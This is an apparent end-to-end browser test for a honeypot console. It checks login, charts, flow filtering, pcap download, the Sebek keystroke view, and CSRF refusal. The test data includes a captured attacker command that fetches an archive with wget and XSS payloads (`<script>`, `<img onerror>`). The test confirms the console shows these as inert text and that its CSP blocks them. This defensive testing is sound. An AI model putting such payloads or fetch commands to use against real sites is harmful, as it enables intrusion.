/**
 * The console in a real browser: Debian's chromium driven by playwright-core (no browser download), against the real
 * `honeywall console` process (bin/honeywall.js, the built dist/: `npm test` builds first) over HTTPS with the
 * self-signed certificate it makes, on a store made by `honeywall import` (test/helpers/console-store.ts) with an
 * account added by `honeywall console adduser` (password on standard input).
 *
 * It logs in, sees the overview chart of the honeypot drawn, filters the connection list, opens the wget's flow,
 * downloads its pcap and reads it back (the same packets as tcpdump's filtered read of the capture), opens the
 * Sebek shell and sees its keystrokes, the hostile lines (`<script>`, `<img onerror>`) shown as text and nothing run
 * (a page-level flag stays unset, no CSP violation; a control shows the violation listener and the CSP do work), and
 * sees requests without a session or with a bad CSRF token refused. One browser for the file. Screenshots of each
 * page go to a temporary directory, or to HW_SCREENSHOTS when set (`HW_SCREENSHOTS=docs/screenshots` makes the
 * README's): a test run leaves the checkout as it was.
 */
import { execFileSync, spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { repoRoot } from './helpers/corpus.js';
import {
  CHROMIUM,
  goto as gotoView,
  launchConsoleBrowser,
  loading,
  ready as readyView,
  shot as shotOf,
  type ConsoleBrowser,
  type ConsolePage,
} from './helpers/console-browser.js';
import { HONEYPOT, HOSTILE_LINES, makeQuietConsoleStore, PASSWORD, SHELL_PID, USER, type ConsoleStore } from './helpers/console-store.js';
const tcpdump = ['/usr/bin/tcpdump', '/usr/sbin/tcpdump'].find((p) => existsSync(p));
const bin = join(repoRoot, 'bin/honeywall.js');
const built = existsSync(join(repoRoot, 'dist/cli/commands/console.js'));
const have = existsSync(CHROMIUM) && built;
if (!have)
  console.warn(
    `[console-browser] SKIPPED: ${existsSync(CHROMIUM) ? 'dist/ is not built (npm run build)' : `${CHROMIUM} is absent (apt-get install chromium; scripts/debian-packages.sh installs it)`}`,
  );

const dir = mkdtempSync(join(tmpdir(), 'hw-console-browser-'));
const shots = process.env.HW_SCREENSHOTS ? resolve(repoRoot, process.env.HW_SCREENSHOTS) : join(dir, 'screenshots');
let store: ConsoleStore;
let server: ChildProcess | undefined;
let base = '';
let browser: ConsoleBrowser | undefined;
let page: ConsolePage;

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const s = createServer();
    s.once('error', reject);
    s.listen(0, '127.0.0.1', () => {
      const port = (s.address() as { port: number }).port;
      s.close(() => resolve(port));
    });
  });
}

const ready = () => readyView(page);
const goto = (hash: string) => gotoView(page, hash);
const shot = (name: string) => shotOf(page, shots, name);

beforeAll(async () => {
  if (!have) return;
  store = await makeQuietConsoleStore(dir, { account: false });
  // the page's bundle, fresh from src/console/client
  execFileSync(process.execPath, [join(repoRoot, 'scripts/bundle-console.js')], { stdio: 'ignore' });
  const add = spawnSync(process.execPath, [bin, 'console', 'adduser', USER, '--db', store.db], { input: `${PASSWORD}\n`, encoding: 'utf8' });
  expect(add.stderr).toBe('');
  expect(add.stdout).toBe(`honeywall console: account ${USER} added in ${store.db}\n`);
  expect(add.status).toBe(0);

  const port = await freePort();
  server = spawn(process.execPath, [bin, 'console', '--db', store.db, '--listen', `127.0.0.1:${port}`], { stdio: ['ignore', 'ignore', 'pipe'] });
  let err = '';
  await new Promise<void>((resolve, reject) => {
    const t = setTimeout(() => reject(new Error(`the console did not start: ${err}`)), 20_000);
    server!.stderr!.on('data', (b: Buffer) => {
      err += b.toString();
      if (/honeywall console: https:\/\//.test(err)) {
        clearTimeout(t);
        resolve();
      }
    });
    server!.once('exit', (code) => reject(new Error(`the console exited ${code}: ${err}`)));
  });
  expect(err).toMatch(/a self-signed certificate made now, .*console-cert\.pem, SHA-256 ([0-9A-F]{2}:){31}[0-9A-F]{2}/);
  base = `https://127.0.0.1:${port}`;

  ({ browser, page } = await launchConsoleBrowser());
  mkdirSync(shots, { recursive: true });
}, 120_000);

afterAll(async () => {
  await browser?.close();
  if (server && server.exitCode === null) {
    server.kill('SIGTERM');
    await new Promise((r) => server!.once('exit', r));
  }
  rmSync(dir, { recursive: true, force: true });
});

describe.skipIf(!have)('honeywall console in chromium', () => {
  it('shows the login form; a wrong password is refused, the right one logs in', async () => {
    await page.goto(`${base}/`);
    await page.waitForSelector('#login-form');
    await shot('login');
    await page.fill('#login-name', USER);
    await page.fill('#login-password', 'wrong password!');
    await page.click('#login-form button[type=submit]');
    await page.waitForFunction(() => document.getElementById('login-error')?.textContent !== '');
    expect(await page.textContent('#login-error')).toBe('wrong account name or password');
    await page.fill('#login-password', PASSWORD);
    await page.click('#login-form button[type=submit]');
    await ready();
    expect(await page.textContent('#user')).toBe(USER);
    // the cookie is not readable by script
    expect(await page.evaluate(() => document.cookie)).toBe('');
  });

  it("the overview shows the honeypot's charts, drawn", async () => {
    const card = page.locator(`section.card[data-honeypot="${HONEYPOT}"]`);
    await card.waitFor();
    expect(await card.locator('h2').textContent()).toBe(HONEYPOT);
    expect(await card.locator('.totals').textContent()).toMatch(
      /inbound · \d+ outbound connections · \d+ alerts .* Sebek processes · 3 firewall lines, 1 limits hit/,
    );
    const canvases = card.locator('.chart canvas');
    expect(await canvases.count()).toBe(2);
    // drawn: the chart's canvas has pixels that are not transparent (axes, grid and series lines)
    const painted = await canvases.first().evaluate((c: HTMLCanvasElement) => {
      const d = c.getContext('2d')!.getImageData(0, 0, c.width, c.height).data;
      let n = 0;
      for (let i = 3; i < d.length; i += 4) if (d[i]! > 0) n++;
      return n;
    });
    expect(painted).toBeGreaterThan(500);
    expect(await card.locator('table code').first().textContent()).toMatch(/^Drop TCP > 20 attempts IN=br0/);
    await shot('overview');
  });

  it('filters the connection list', async () => {
    await goto('#/flows');
    const all = await page.locator('#main table.list tbody tr').count();
    expect(all).toBeGreaterThan(1);
    await page.fill('#f-flows-port', '80');
    await page.selectOption('#f-flows-proto', 'tcp');
    await loading(page);
    await page.click('#flows-filters button[type=submit]');
    await ready();
    expect(page.url()).toMatch(/#\/flows\?port=80&proto=tcp$/);
    const rows = page.locator('#main table.list tbody tr');
    const n = await rows.count();
    expect(n).toBeGreaterThan(0);
    expect(n).toBeLessThan(all);
    for (let i = 0; i < n; i++) {
      const cells = await rows.nth(i).locator('td').allTextContents();
      expect(cells[2]).toBe('TCP');
      expect(`${cells[3]} ${cells[4]}`).toMatch(/:80\b/);
    }
    await shot('flows');
  });

  it("opens the wget's flow, with its alert and its Sebek process, and downloads its pcap: tcpdump's filtered read", async () => {
    const row = page.locator('#main table.list tbody tr', { hasText: '198.51.100.7:80' });
    await loading(page);
    await row.locator('a[data-flow]').click();
    await ready();
    expect(await page.textContent('#main h1')).toMatch(/^Flow \d+: TCP 10\.0\.0\.5:40001 → 198\.51\.100\.7:80$/);
    expect(await page.locator('#main span.msg').allTextContents()).toContain('GET request <b>bold</b>');
    expect(await page.locator('#main b').count()).toBe(0);
    const procs = page.locator('#main a[href^="#/process/"]');
    expect(await procs.allTextContents()).toContain(String(SHELL_PID + 3));
    expect(await page.locator('#main table.packets tbody tr').count()).toBe(5);
    await shot('flow');

    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#download-pcap')]);
    const file = join(dir, 'downloaded.pcap');
    await download.saveAs(file);
    expect(download.suggestedFilename()).toMatch(/^honeywall-flow-\d+\.pcap$/);
    if (tcpdump !== undefined) {
      const td = (f: string, filter?: string) =>
        execFileSync(tcpdump, ['-nn', '-tt', '-x', '-r', f, ...(filter ? [filter] : [])], { stdio: ['ignore', 'pipe', 'ignore'] }).toString();
      const want = td(
        store.sessionPcap,
        'tcp and ((src host 10.0.0.5 and src port 40001 and dst host 198.51.100.7 and dst port 80) or (src host 198.51.100.7 and src port 80 and dst host 10.0.0.5 and dst port 40001))',
      );
      expect(want.split('\n').filter((l) => /^\d/.test(l))).toHaveLength(5);
      expect(td(file)).toBe(want);
    } else console.warn('[console-browser] tcpdump is absent: the downloaded pcap is not compared');
  });

  it('opens the Sebek shell: its keystrokes, the hostile ones shown as text, nothing run, no CSP violation', async () => {
    await goto(`#/sebek?client=${HONEYPOT}`);
    expect(await page.locator(`#process-tree li[data-pid="${SHELL_PID}"] > a`).textContent()).toBe(`${SHELL_PID} bash`);
    expect(await page.locator(`#process-tree li[data-pid="${SHELL_PID}"] li[data-pid="${SHELL_PID + 3}"] > a`).textContent()).toBe(
      `${SHELL_PID + 3} wget`,
    );
    await shot('sebek');
    await loading(page);
    await page.click(`#process-tree li[data-pid="${SHELL_PID}"] > a`);
    await ready();
    const lines = await page.locator('#main table.keystrokes code.keys').allTextContents();
    expect(lines).toContain('wget http://198.51.100.7/x.tgz');
    for (const h of HOSTILE_LINES) expect(lines).toContain(h);
    // shown as text: no element came from the data, no handler ran
    expect(await page.locator('#main img').count()).toBe(0);
    expect(await page.locator('#main script').count()).toBe(0);
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
    await shot('process');

    // the control: the same line parsed as HTML (what the console never does) is blocked by the CSP, and seen
    await page.evaluate((line) => {
      const div = document.createElement('div');
      div.innerHTML = line;
      document.body.appendChild(div);
    }, HOSTILE_LINES[1]!);
    await page.waitForFunction(() => (window as unknown as { __csp: string[] }).__csp.length > 0);
    expect((await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp))[0]).toMatch(/^script-src/);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  });

  it('the alert list and search pages', async () => {
    await goto('#/alerts');
    expect(await page.locator('#main table.list tbody tr').count()).toBeGreaterThan(0);
    await shot('alerts');
    await goto('#/search?q=wget');
    expect(await page.locator('#main code.keys').allTextContents()).toContain('wget http://198.51.100.7/x.tgz');
    await shot('search');
  });

  it('refuses a state change with a bad CSRF token and a request without a session', async () => {
    const status = await page.evaluate(async () => {
      const bad = await fetch('/api/logout', {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': 'forged' },
        body: '{}',
      });
      const none = await fetch('/api/logout', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' });
      const anon = await fetch('/api/flows', { credentials: 'omit' });
      return [bad.status, none.status, anon.status, (await anon.json()).error];
    });
    expect(status).toEqual([403, 403, 401, 'not logged in']);
    // still logged in after those: the logout button (with the token) ends the session
    await page.click('#logout');
    await page.waitForSelector('#login-form');
    const after = await page.evaluate(async () => (await fetch('/api/flows')).status);
    expect(after).toBe(401);
  });
});
